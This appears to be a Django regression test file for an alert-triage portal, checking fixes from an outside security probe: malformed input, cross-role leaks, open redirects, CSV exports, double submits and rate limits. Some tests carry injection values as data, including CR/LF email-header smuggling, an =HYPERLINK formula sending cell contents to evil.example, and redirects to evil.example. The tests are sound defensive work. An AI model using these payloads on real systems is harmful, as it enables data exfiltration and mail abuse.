"""Regression tests for the outside probe's findings (crashes on odd input, leaks across roles, redirects, exports,
double submits, rate limits). Each failed before its fix."""

from __future__ import annotations

import threading
from typing import Any

import pytest
from django.core import mail
from django.db import close_old_connections, connection
from django.urls import reverse

from alerts.models import Alert, AlertEvent
from portal.accounts.models import Role
from portal.api.models import ApiToken
from portal.api.services import token_create
from portal.testing.factories import alert_item, grant, make_alerts, make_user, make_vault
from portal.testing.services import need_postgres
from triage import services as triage
from triage.models import AlertComment, SavedView, Webhook, WebhookDelivery
from triage.webhooks import webhook_save

pytestmark = pytest.mark.django_db


@pytest.fixture
def alert(personas: Any) -> Alert:
    return make_alerts(personas.sub, [alert_item(personas.sub, vault=make_vault(personas.sub))])[0]


# --- crashes on odd input ------------------------------------------------------------------------------------


@pytest.mark.parametrize("endpoint", ["sync-runs", "incidents", "suppression-rules", "key-vaults", "alerts"])
def test_a_crafted_page_cursor_is_a_400(client, personas, endpoint):
    client.force_login(personas.reader)
    response = client.get(f"/api/v1/{endpoint}/?cursor=cD1hYmM%3D")  # base64 of "p=abc"
    assert response.status_code in (400, 404), response.content[:300]
    assert response.json()["error"]["status"] == response.status_code


def test_deeply_nested_json_is_a_400(client, personas, alert):
    client.force_login(personas.secadmin)
    for body in ("[" * 100_000, '{"a":' * 100_000):
        response = client.post(f"/api/v1/alerts/{alert.pk}/comments/", body, content_type="application/json")
        assert response.status_code == 400
        assert "not valid JSON" in response.json()["error"]["message"]


@pytest.mark.parametrize("bad", ["a\x00b", "a\x01b", "a\x7fb"])
def test_control_characters_in_page_forms_are_a_clear_error_and_save_nothing(client, personas, alert, bad):
    client.force_login(personas.secadmin)
    htmx = {"HX-Request": "true"}
    # a comment (multi-line: TAB, CR and LF are fine, other control characters are not)
    response = client.post(
        reverse("triage:comment_add", args=[alert.pk]), {"body": f"note {bad}"}, headers=htmx
    )
    assert response.status_code == 400 and not AlertComment.objects.exists()
    # a status change's comment
    response = client.post(
        reverse("alerts:status", args=[alert.pk]),
        {"status": "Dismissed", "classification": "FalsePositive", "comment": f"x {bad}"},
        headers=htmx,
    )
    assert response.status_code == 400 and Alert.objects.get(pk=alert.pk).status == "Active"
    # names: a saved view, an API token, a webhook
    client.post(reverse("triage:views"), {"name": f"view {bad}", "query": "severity=High"})
    assert not SavedView.objects.exists()
    client.post(reverse("api:tokens_page"), {"name": f"token {bad}"})
    assert not ApiToken.objects.exists()
    client.post(
        reverse("triage:webhook_create"),
        {
            "subscription": personas.sub.pk,
            "name": f"hook {bad}",
            "url": "https://h.example.com/",
            "events": ["alert.created"],
        },
    )
    assert not Webhook.objects.exists()


def test_a_comment_keeps_its_lines_and_tabs(client, personas, alert):
    client.force_login(personas.secadmin)
    client.post(reverse("triage:comment_add", args=[alert.pk]), {"body": "first line\r\n\tsecond"})
    assert AlertComment.objects.get().body == "first line\r\n\tsecond"


def test_a_title_with_line_breaks_does_not_stop_its_mails(personas, settings):
    """A title with CR/LF raised BadHeaderError when replying to feedback and when mailing an assignment."""
    settings.EMAIL_BACKEND = "django.core.mail.backends.locmem.EmailBackend"
    from feedback.services import feedback_reply, feedback_submit
    from notifications.tasks import notify_assignment

    item = alert_item(personas.sub, vault=make_vault(personas.sub))
    item["properties"]["alertDisplayName"] = "Injected\r\nBcc: attacker@evil.example\r\nSubject: hi"
    alert = make_alerts(personas.sub, [item])[0]
    personas.reader.email = "rey@contoso.example"
    personas.reader.save()
    feedback = feedback_submit(
        user=personas.reader, alert=alert, useful=False, reason="Noise", may_contact=True
    )
    feedback_reply(user=personas.secadmin, feedback=feedback, body="Thanks")
    personas.secadmin.email = "sam@contoso.example"
    personas.secadmin.save()
    notify_assignment.apply(args=[alert.pk, personas.secadmin.pk]).get()
    assert len(mail.outbox) == 2
    for message in mail.outbox:
        assert "\n" not in message.subject and "\r" not in message.subject
        assert "Injected Bcc: attacker@evil.example Subject: hi" in message.subject
        assert message.recipients() in (["rey@contoso.example"], ["sam@contoso.example"])


def test_an_integer_too_large_for_the_database_is_a_400(client, personas):
    client.force_login(personas.reader)
    response = client.get(reverse("feedback:list") + "?vault=99999999999999999999999")
    assert response.status_code == 400 and b"Key vault" in response.content
    response = client.get(reverse("alerts:list") + "?vault=99999999999999999999999")
    assert response.status_code in (200, 400) and b"not valid" in response.content


# --- leaks across roles --------------------------------------------------------------------------------------


def test_shared_views_are_seen_only_by_those_entitled(client, personas):
    other_sub_view = triage.saved_view_save(
        user=personas.owner,
        name="Team view",
        query=f"subscription={personas.sub.pk}&severity=High",
        shared=True,
    )
    unscoped = triage.saved_view_save(
        user=personas.owner, name="Everything high", query="severity=High", shared=True
    )
    client.force_login(personas.outsider)
    names = {v["name"] for v in client.get("/api/v1/saved-views/").json()}
    assert names == set()
    assert "Team view" not in client.get(reverse("alerts:list")).content.decode()
    assert client.delete(f"/api/v1/saved-views/{other_sub_view.pk}/").status_code == 404
    client.force_login(personas.reader)  # shares the subscription with the owner
    names = {v["name"] for v in client.get("/api/v1/saved-views/").json()}
    assert names == {"Team view", "Everything high"}
    assert unscoped.pk


def test_a_webhooks_address_and_answers_are_for_writers_only(client, personas):
    hook, _ = webhook_save(
        user=personas.secadmin,
        subscription=personas.sub,
        name="soar",
        url="https://soar.internal.example/hook",
        events=["alert.created"],
    )
    from django.utils import timezone

    WebhookDelivery.objects.create(
        webhook=hook,
        event="ping",
        payload={},
        state="failed",
        status_code=500,
        response="internal stack trace: db=10.0.0.7",
        error="HTTP 500: internal stack trace",
        created_at=timezone.now(),
        touched_at=timezone.now(),
    )
    client.force_login(personas.reader)
    page = client.get(reverse("triage:webhook", args=[hook.pk])).content.decode()
    listing = client.get(reverse("triage:webhooks")).content.decode()
    for body in (page, listing):
        assert "soar.internal.example" not in body and "stack trace" not in body
    assert client.get(f"/api/v1/webhooks/{hook.pk}/").json()["url"] is None
    assert all(d["error"] is None for d in client.get(f"/api/v1/webhooks/{hook.pk}/deliveries/").json())
    client.force_login(personas.secadmin)
    assert "soar.internal.example" in client.get(reverse("triage:webhook", args=[hook.pk])).content.decode()
    assert client.get(f"/api/v1/webhooks/{hook.pk}/").json()["url"] == "https://soar.internal.example/hook"


# --- redirects, exports, limits ------------------------------------------------------------------------------


def test_a_posted_next_never_leaves_the_site(client, personas):
    client.force_login(personas.reader)
    response = client.post(reverse("web:theme"), {"theme": "dark", "next": "https://evil.example/x"})
    assert response.status_code == 302 and not response.url.startswith("https://evil.example")
    response = client.post(reverse("web:theme"), {"theme": "dark", "next": "//evil.example/x"})
    assert "evil.example" not in response.url


def test_every_csv_cell_is_safe_in_a_spreadsheet(client, personas):
    from django.contrib.auth.models import User

    webhook_save(
        user=personas.secadmin,
        subscription=personas.sub,
        name='=HYPERLINK("http://evil.example/?x="&A1,"click")',
        url="https://h.example.com/",
        events=["alert.created"],
    )
    admin = User.objects.create_superuser("root-csv", "root@contoso.example", "pw-pw-pw-pw")
    client.force_login(admin)
    from portal.audit.models import AuditRecord

    ids = list(AuditRecord.objects.values_list("pk", flat=True))
    response = client.post("/admin/audit/auditrecord/", {"action": "export_csv", "_selected_action": ids})
    body = b"".join(response.streaming_content).decode()
    assert "=HYPERLINK" in body
    for line in body.splitlines():
        for cell in line.split(","):
            assert not cell.lstrip('"').startswith(("=", "+", "@")), line


@pytest.mark.django_db(transaction=True)
def test_the_same_form_posted_twice_at_once_makes_one_thing(personas, alert):
    need_postgres()
    barrier = threading.Barrier(2)
    errors: list[BaseException] = []

    def twice(fn: Any) -> None:
        def run() -> None:
            try:
                barrier.wait(timeout=10)
                fn()
            except Exception as exc:  # the refused second one, for webhooks and tokens
                errors.append(exc)
            finally:
                close_old_connections()
                connection.close()

        threads = [threading.Thread(target=run) for _ in range(2)]
        for t in threads:
            t.start()
        for t in threads:
            t.join(timeout=30)

    twice(lambda: triage.comment_add(user=personas.secadmin, alert=alert, body="once"))
    assert AlertComment.objects.filter(body="once").count() == 1
    assert AlertEvent.objects.filter(alert=alert, kind="comment").count() == 1
    twice(
        lambda: webhook_save(
            user=personas.secadmin,
            subscription=personas.sub,
            name="twice",
            url="https://h.example.com/",
            events=["alert.created"],
        )
    )
    assert Webhook.objects.filter(name="twice").count() == 1
    twice(lambda: token_create(user=personas.secadmin, name="script"))
    assert ApiToken.objects.filter(name="script").count() == 1
    assert len(errors) == 2 and all("already" in str(e) for e in errors)


def test_the_api_rate_limit_is_per_user_not_per_token(client, personas, settings):
    from django.core.cache import cache

    cache.clear()
    settings.API_RATE_LIMIT = "4/min"
    user = make_user("ratey")
    grant(user, personas.sub, Role.READER)
    raws = [token_create(user=user, name=f"t{i}")[1] for i in range(3)]
    statuses = [
        client.get("/api/v1/alerts/", headers={"Authorization": f"Bearer {raws[i % 3]}"}).status_code
        for i in range(6)
    ]
    assert statuses[:4] == [200] * 4 and statuses[4:] == [429, 429], statuses
